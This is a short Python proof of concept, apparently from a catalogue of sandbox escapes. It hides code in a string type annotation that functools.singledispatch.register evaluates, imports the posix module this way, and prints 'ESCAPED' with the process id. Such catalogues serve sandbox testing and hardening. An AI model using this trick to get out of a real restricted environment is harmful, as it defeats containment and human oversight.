# technique: singledispatch.register evaluates the annotation of what it registers
# goal: import
# source: own analysis: eval in trusted code
import functools
found = []


@functools.singledispatch
def f(x):
    pass


def g(x: '(found.append(__import__("posix").getpid()), int)[1]'):
    pass


f.register(g)
print('ESCAPED pid=%d' % found[0])
